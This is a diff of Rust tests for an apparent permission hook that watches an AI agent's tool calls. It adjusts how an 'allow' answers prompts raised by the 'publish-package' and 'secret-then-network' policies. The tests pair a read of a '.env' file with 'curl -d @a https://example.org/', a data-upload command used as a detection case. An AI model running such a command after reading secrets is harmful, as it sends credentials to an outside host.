@@ -238,9 +238,9 @@ fn a_question_of_a_projects_policy_names_its_file() {
     assert_text!("allow_of_a_project", told.0);
 }
 
-/// The reply to `allow` mentions that another policy may still ask.
+/// The session's earlier calls are part of the prompt, so the allow covers the rule that asks because of them.
 #[test]
-fn what_still_asks_after_an_allow_is_named() {
+fn an_allow_ends_a_prompt_of_two_policies_in_its_session() {
     let world = World::new();
     let read = json!({
         "session_id": "s1", "cwd": world.repo(), "hook_event_name": "PreToolUse", "tool_name": "Read",
@@ -249,8 +249,9 @@ fn what_still_asks_after_an_allow_is_named() {
     assert_ask(&world.hook(&read.to_string()), &[]);
     assert_ask(&world.bash("npm publish"), &["publish-package", "secret-then-network"]);
     let ended = attended(&world, &["allow", "--last", "--yes"]);
-    assert_text!("allow_still_asked", &world, 0, ended);
-    assert_ask(&world.bash("npm publish"), &["secret-then-network"]);
+    assert_text!("allow_in_session", &world, 0, ended);
+    assert_silent(&world.bash("npm publish"));
+    assert_ask(&world.bash("npm publish --tag next"), &["secret-then-network"]);
 }
 
 #[test]
@@ -417,7 +418,7 @@ fn one_change_ends_a_question_of_two_policies() {
 const OFFER: &str = "guard-host allow --last";
 
 #[test]
-fn a_question_about_earlier_calls_ends_by_a_setting() {
+fn a_question_about_earlier_calls_ends_by_its_first_option() {
     let world = World::new();
     assert_ask(&call(&world, "Read", json!({ "file_path": world.path("repo/.env") })), &[]);
     let publish = || call(&world, "Bash", json!({ "command": "curl -d @a https://example.org/" }));
